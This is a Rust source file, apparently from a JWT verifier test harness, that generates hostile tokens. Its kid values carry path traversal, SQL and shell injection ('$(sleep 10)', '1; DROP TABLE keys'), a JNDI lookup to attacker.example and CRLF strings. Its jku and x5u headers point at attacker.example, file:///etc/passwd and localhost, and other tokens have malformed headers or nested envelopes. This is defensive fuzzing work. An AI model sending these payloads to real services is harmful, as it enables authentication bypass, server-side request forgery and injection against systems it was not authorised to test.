//! What a header recommends, and what it demands.

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use crate::Hostile;
use crate::support::tokens::{Signer, base64url, claims, parts};
use crate::target::Target;

/// Names of keys that lead somewhere, for whoever looks there. Signed with the emptiness that is to be found, and
/// with the attacker's key.
pub(crate) fn kid(target: &Target) -> Vec<Hostile> {
    let empty = Signer::hmac(Algorithm::HS256, b"");
    let long = "a".repeat(4_000);
    let texts = [
        "../../../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "file:///dev/null",
        "C:\\Windows\\win.ini",
        "https://attacker.example/key.pem",
        "//attacker.example/key",
        "' UNION SELECT '' --",
        "x' OR '1'='1",
        "1; DROP TABLE keys",
        "key.pem; sleep 10",
        "$(sleep 10)",
        "|/bin/true",
        "${jndi:ldap://attacker.example/a}",
        "{{7*7}}",
        "%00",
        "\0",
        "\r\nX-Forged: 1",
        "__proto__",
        "*",
        "",
        &long,
    ];
    let mut all = Vec::new();
    for kid in texts {
        let short: String = kid.chars().take(20).collect();
        for (who, signer) in [("with emptiness", &empty), ("by the attacker", &target.attacker)] {
            let header = json!({ "alg": signer.algorithm(), "kid": kid });
            all.push((format!("kid {short:?} {who}"), signer.sign(&header, &claims("alice"))));
        }
    }
    // The issuer itself would have to be out of its mind.
    for kid in [json!(0), json!(true), json!(["a"]), json!({ "path": "/dev/null" })] {
        let header = target.header(json!({ "kid": kid }));
        all.push((format!("kid {kid}"), target.signer.sign(&header, &claims("alice"))));
    }
    all
}

/// The attacker's own key comes with the token, or is to be fetched.
pub(crate) fn embedded(target: &Target) -> Vec<Hostile> {
    let jwk = &target.attackers_jwk;
    let certificate = base64url("a certificate").replace(['-', '_'], "A");
    let by_attacker = [
        ("jwk", json!({ "jwk": jwk })),
        ("jwk with a kid", json!({ "jwk": jwk, "kid": "attacker" })),
        ("jwk with use", json!({ "jwk": { "use": "sig", "kty": jwk["kty"], "n": jwk["n"], "e": jwk["e"] } })),
        ("jwk that is a set", json!({ "jwk": { "keys": [jwk] } })),
        ("jwk that is a text", json!({ "jwk": jwk.to_string() })),
        ("jwk that is oct", json!({ "jwk": { "kty": "oct", "k": "" } })),
        ("jwks", json!({ "jwks": { "keys": [jwk] } })),
        ("jku", json!({ "jku": "https://attacker.example/jwks.json" })),
        ("jku to this machine", json!({ "jku": "http://127.0.0.1:1/jwks.json", "kid": "a" })),
        ("jku to a file", json!({ "jku": "file:///etc/passwd" })),
        ("jku with an at sign", json!({ "jku": "https://login.example@attacker.example/jwks.json" })),
        ("x5u", json!({ "x5u": "https://attacker.example/cert.pem" })),
        ("x5c", json!({ "x5c": [certificate] })),
        ("x5c that is a text", json!({ "x5c": certificate })),
        ("x5t", json!({ "x5t": base64url([0; 20]), "x5t#S256": base64url([0; 32]) })),
        (
            "everything",
            json!({ "jwk": jwk, "jku": "https://a.example", "x5u": "https://a.example", "x5c": [certificate] }),
        ),
    ];
    by_attacker
        .into_iter()
        .map(|(what, more)| {
            (format!("embedded {what}"), target.attacker.sign(&target.header(more), &claims("alice")))
        })
        .collect()
}

/// Headers that change how the rest is to be read, or cannot be read themselves. All signed by the good key.
pub(crate) fn demands(target: &Target) -> Vec<Hostile> {
    let demands = [
        json!({ "crit": ["exp"] }),
        json!({ "crit": ["exp"], "exp": 1 }),
        json!({ "crit": ["x"], "x": 1 }),
        json!({ "crit": ["b64"], "b64": true }),
        json!({ "crit": ["alg"] }),
        json!({ "crit": [] }),
        json!({ "crit": null }),
        json!({ "crit": "exp" }),
        json!({ "crit": {} }),
        json!({ "crit": [1] }),
        json!({ "b64": false }),
        json!({ "b64": true }),
        json!({ "b64": null }),
        json!({ "b64": false, "crit": ["b64"] }),
        json!({ "enc": "A128GCM" }),
        json!({ "zip": "DEF" }),
        json!({ "typ": 5 }),
        json!({ "cty": ["JWT"] }),
        json!({ "jku": 5 }),
        json!({ "x5c": 5 }),
        json!({ "jwk": 5 }),
    ];
    let mut all: Vec<Hostile> = demands
        .into_iter()
        .map(|more| {
            (format!("header with {more}"), target.signer.sign(&target.header(more), &claims("alice")))
        })
        .collect();

    let header = target.header(json!({})).to_string();
    let deep = format!(r#"{{"alg":"{}","x":{}{}}}"#, target.alg, "[".repeat(500), "]".repeat(500));
    let texts: [(&str, Vec<u8>); 13] = [
        ("empty", vec![]),
        ("null", b"null".to_vec()),
        ("a list", format!("[{header}]").into_bytes()),
        ("a text", json!(header).to_string().into_bytes()),
        ("an empty object", b"{}".to_vec()),
        ("cut", header.as_bytes()[..header.len() - 1].to_vec()),
        ("followed by more", format!("{header}{header}").into_bytes()),
        ("behind a byte order mark", format!("\u{feff}{header}").into_bytes()),
        ("in UTF-16", header.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("not UTF-8", [header.as_bytes(), b"\xff"].concat()),
        ("with NUL behind it", format!("{header}\0").into_bytes()),
        ("nested too deep", deep.into_bytes()),
        ("with single quotes", header.replace('"', "'").into_bytes()),
    ];
    for (what, header) in texts {
        let token = target.signer.sign_bytes(header, claims("alice").to_string());
        all.push((format!("a header that is {what}"), token));
    }
    all.extend(wrapped(target));
    all
}

/// Tokens in tokens, encrypted ones, and other envelopes.
fn wrapped(target: &Target) -> Vec<Hostile> {
    let good = target.good();
    let [header, payload, signature] = parts(&good);
    let part = |value: Value| base64url(value.to_string());
    let jwe = |alg: &str, enc: &str, key: &str| {
        let header = part(json!({ "alg": alg, "enc": enc, "cty": "JWT" }));
        format!("{header}.{key}.{}.{}.{}", base64url([1; 12]), base64url(&good), base64url([2; 16]))
    };
    let nested = json!({ "alg": target.alg, "cty": "JWT" }).to_string();
    let twice = target.signer.sign_bytes(&nested, &good);
    vec![
        ("encrypted, dir".into(), jwe("dir", "A128GCM", "")),
        ("encrypted, RSA".into(), jwe("RSA-OAEP", "A256GCM", &base64url([3; 256]))),
        ("encrypted, EC".into(), jwe("ECDH-ES", "A128CBC-HS256", "")),
        ("encrypted, alg of signing".into(), jwe(target.alg, "A128GCM", "")),
        ("a token in a token".into(), twice.clone()),
        ("a token in a token in a token".into(), target.signer.sign_bytes(&nested, &twice)),
        ("a token as a JSON text".into(), target.signer.sign_bytes(&nested, json!(good).to_string())),
        (
            "flattened JSON".into(),
            json!({ "protected": header, "payload": payload, "signature": signature }).to_string(),
        ),
        (
            "general JSON".into(),
            json!({ "payload": payload, "signatures": [{ "protected": header, "signature": signature }] })
                .to_string(),
        ),
        ("detached claims".into(), format!("{header}..{signature}")),
        ("with disclosures".into(), format!("{good}~{}~", base64url("[\"salt\",\"sub\",\"root\"]"))),
        ("PASETO".into(), format!("v4.public.{}", base64url([4; 96]))),
    ]
}
